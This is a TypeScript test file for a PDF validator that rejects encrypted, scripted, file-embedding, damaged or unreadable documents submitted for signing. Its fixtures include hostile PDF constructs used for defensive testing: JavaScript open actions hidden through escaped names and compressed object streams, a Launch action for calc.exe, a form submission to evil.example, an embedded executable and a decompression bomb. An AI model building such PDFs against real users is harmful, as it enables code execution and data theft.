/** Which PDFs are refused as a document to sign, and what they are told by, however they hide it. */
import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { getDocumentProxy } from 'unpdf'
import { describe, expect, test } from 'vitest'
import { findPdfFault } from './check-pdf.ts'

type Options = ConstructorParameters<typeof PDFDocument>[0]

async function drawn(options: Options, draw: (document: PDFKit.PDFDocument) => void = () => {}) {
  const document = new PDFDocument(options)
  const parts: Buffer[] = []
  document.on('data', (part: Buffer) => parts.push(part))
  const whole = new Promise<Buffer>((resolve) => document.on('end', () => resolve(Buffer.concat(parts))))
  document.text('Business associate agreement between Testwell and Samplewood.')
  draw(document)
  document.end()
  return whole
}

type Part = string | { dictionary: string; data: Buffer }

/** A file of these objects, numbered from 1, with a table that finds each. The first is the catalog. */
function made(parts: readonly Part[], trailer = ''): Buffer {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  const size = () => chunks.reduce((sum, chunk) => sum + chunk.length, 0)
  for (const [index, part] of parts.entries()) {
    offsets.push(size())
    const body =
      typeof part === 'string'
        ? [Buffer.from(part)]
        : [
            Buffer.from(`<< ${part.dictionary} /Length ${part.data.length} >>\nstream\n`),
            part.data,
            Buffer.from('\nendstream'),
          ]
    chunks.push(Buffer.from(`${index + 1} 0 obj\n`), ...body, Buffer.from('\nendobj\n'))
  }
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const count = parts.length + 1
  chunks.push(
    Buffer.from(
      `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${size()}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(chunks)
}

const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const sheet = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'
const plain = ['<< /Type /Catalog /Pages 2 0 R >>', pages, sheet]
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/** A stream of objects: `number offset` for each, then the objects. */
function packed(objects: Readonly<Record<number, string>>, extra = '/Type /ObjStm', change = deflateSync) {
  const entries = Object.entries(objects)
  let offset = 0
  const head = entries.map(([number, text]) => {
    const place = `${number} ${offset}`
    offset += text.length + 1
    return place
  })
  const first = `${head.join(' ')} `
  const text = first + entries.map(([, each]) => `${each} `).join('')
  return {
    dictionary: `${extra} /N ${entries.length} /First ${first.length} /Filter /FlateDecode`,
    data: change(Buffer.from(text)),
  }
}

describe('a document that can be signed', () => {
  test('is one as programs write it, also with objects in streams, links and outlines', async () => {
    const linked = await drawn({ info: { Title: 'BAA' } }, (document) => {
      document.text('Our site', { link: 'https://samplewood.example/' })
      document.outline.addItem('Clauses')
      document.addPage().text('Second page')
    })
    expect(await findPdfFault(linked)).toBeNull()
    expect(await findPdfFault(made(plain))).toBeNull()
    expect(
      await findPdfFault(made([...plain, packed({ 5: '<< /Title (The /JavaScript of BAAs) >>' })])),
    ).toBe(
      // A name in a text is taken for one: better refused than missed.
      'scripted',
    )
    expect(await findPdfFault(made([...plain, packed({ 5: '<< /Title (The BAA) >>' })]))).toBeNull()
  })

  test('may be of ten million bytes, and is checked within two seconds', async () => {
    const data = Buffer.alloc(9_900_000)
    for (let at = 0; at < data.length; at += 4) data.writeUInt32LE((at * 2_654_435_761) >>> 0, at)
    const begin = performance.now()
    expect(await findPdfFault(made([...plain, { dictionary: '/Type /XObject', data }]))).toBeNull()
    expect(performance.now() - begin).toBeLessThan(2_000)
  })
})

describe('encrypted', () => {
  test.each([
    ['with a password to open it', { userPassword: 'open', ownerPassword: 'own' }],
    ['for printing only', { ownerPassword: 'own', permissions: { printing: 'lowResolution' as const } }],
  ])('%s', async (_name, options) => {
    for (const pdfVersion of ['1.4', '1.7', '1.7ext3'] as const)
      expect(await findPdfFault(await drawn({ ...options, pdfVersion }))).toBe('encrypted')
  })

  test('by a name in another spelling, or said in the dictionary of a stream', async () => {
    expect(await findPdfFault(made(plain, '/#45ncrypt 9 0 R'))).toBe('encrypted')
    const xref = { dictionary: '/Type /XRef /Encrypt 9 0 R', data: Buffer.from('x') }
    expect(await findPdfFault(made([...plain, xref]))).toBe('encrypted')
  })
})

describe('scripted', () => {
  const acts = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`

  test('is so for a reader of PDFs, too', async () => {
    const document = await getDocumentProxy(new Uint8Array(made([acts, pages, sheet])))
    expect(await document.getJSActions()).toMatchObject({
      OpenAction: [expect.stringContaining('app.alert')],
    })
    const hidden = made([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      ...[pages, sheet, packed({ 5: script })],
    ])
    expect(await findPdfFault(hidden)).toBe('scripted')
  })

  test.each([
    ['when it opens', made([acts, pages, sheet])],
    ['in another spelling', made([acts.replace('JavaScript', '#4A#61vaScript'), pages, sheet])],
    [
      'in an action of a page',
      made([plain[0] ?? '', pages, sheet.replace('>>', `/AA << /O ${script} >> >>`)]),
    ],
    ['that starts a program', made([...plain, '<< /S /Launch /F (calc.exe) >>'])],
    ['that sends a form', made([...plain, '<< /S /SubmitForm /F (https://evil.example) >>'])],
    ['in a form of XML', made([...plain, '<< /XFA 5 0 R >>'])],
    ['in a stream of objects', made([...plain, packed({ 5: script })])],
    ['in a stream of objects without a type', made([...plain, packed({ 5: script }, '/Type 9 0 R')])],
    [
      'in a stream of objects whose keys are spelled otherwise',
      made([...plain, { ...packed({ 5: script }), dictionary: '/#4e 1 /Fi#72st 4 /Filter /Fl#61teDecode' }]),
    ],
    [
      'in an object that lies inside a stream',
      made([
        ...plain,
        {
          dictionary: '',
          data: Buffer.concat([
            Buffer.from('7 0 obj\n'),
            deflated({ 5: script }),
            Buffer.from('\nendstream endobj'),
          ]),
        },
      ]),
    ],
    [
      'after a comment or a text that looks like an end',
      made([...plain, `<< /A (endobj \\( endobj) % endobj\n /B ${script} >>`]),
    ],
  ])('%s', async (_name, file) => {
    expect(await findPdfFault(file)).toBe('scripted')
  })
})

function deflated(objects: Readonly<Record<number, string>>): Buffer {
  const { dictionary, data } = packed(objects)
  return Buffer.concat([Buffer.from(`<< ${dictionary} >>\nstream\n`), data])
}

test('with files inside', async () => {
  const file = await drawn({}, (document) => {
    document.file(Buffer.from('MZ'), { name: 'setup.exe' })
  })
  expect(await findPdfFault(file)).toBe('files')
})

test.each([
  ['a head alone', Buffer.from('%PDF-1.7\n')],
  ['a text that begins as one', Buffer.from('%PDF-1.7 this is a letter')],
  ['the first half of one', made(plain).subarray(0, 120)],
])('damaged: %s', async (_name, file) => {
  expect(await findPdfFault(file)).toBe('damaged')
})

test.each([
  [
    'objects in a stream that is packed otherwise',
    made([
      ...plain,
      {
        dictionary: '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
        data: Buffer.from('00>'),
      },
    ]),
  ],
  [
    'objects in a stream that does not unpack',
    made([
      ...plain,
      { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: Buffer.from('nothing') },
    ]),
  ],
  [
    'objects in a stream in another file',
    made([...plain, { dictionary: '/Type /ObjStm /N 1 /First 4 /F (other.pdf)', data: Buffer.from('') }]),
  ],
  [
    'a stream of objects that unpacks to a hundred times its size',
    made([
      ...plain,
      {
        dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        data: deflateSync(Buffer.alloc(70_000_000)),
      },
    ]),
  ],
  ['an object that is not closed before the next', made([...plain, '<< /A endobj 5 0 obj << /S /Other'])],
  ['an object that is closed twice', made([...plain, '<< /A ] endobj'])],
])('unreadable: %s', async (_name, file) => {
  expect(await findPdfFault(file)).toBe('unreadable')
})

test('a file of beginnings alone costs no more than its size', async () => {
  const begin = performance.now()
  expect(await findPdfFault(Buffer.from(`%PDF-1.7\n${'1 0 obj ('.repeat(900_000)}`))).toBe('unreadable')
  expect(performance.now() - begin).toBeLessThan(3_000)
})
